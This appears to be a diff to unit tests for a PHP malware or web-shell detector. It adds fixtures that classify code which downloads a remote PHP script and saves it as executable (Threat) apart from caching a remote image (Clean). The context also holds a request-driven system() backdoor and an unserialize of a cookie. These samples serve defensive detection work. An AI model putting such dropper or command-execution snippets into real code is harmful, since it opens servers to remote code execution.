@@ -155,6 +155,14 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
       {"preferences unserialized from a cookie and printed",
        "<?php $c = unserialize($_COOKIE['cart']); echo htmlspecialchars($c['item']);",
        Verdict::Suspicious},
+      {"a remote script saved under the name its address ends in",
+       "<?php $u = 'http://cdn.example.net/t/tool.php'; $f = pathinfo($u, PATHINFO_BASENAME);\n"
+       "file_put_contents($f, file_get_contents($u));",
+       Verdict::Threat},
+      {"a remote image saved under the name its address ends in",
+       "<?php $u = 'http://cdn.example.net/t/logo.png'; $f = 'cache/' . pathinfo($u, PATHINFO_BASENAME);\n"
+       "file_put_contents($f, file_get_contents($u));",
+       Verdict::Clean},
       {"a command of old PHP's request globals, cleaned into itself and run",
        "<?php if ($action == 'shellgo') { $cmd = stripslashes($cmd); system($cmd); }",
        Verdict::Threat},
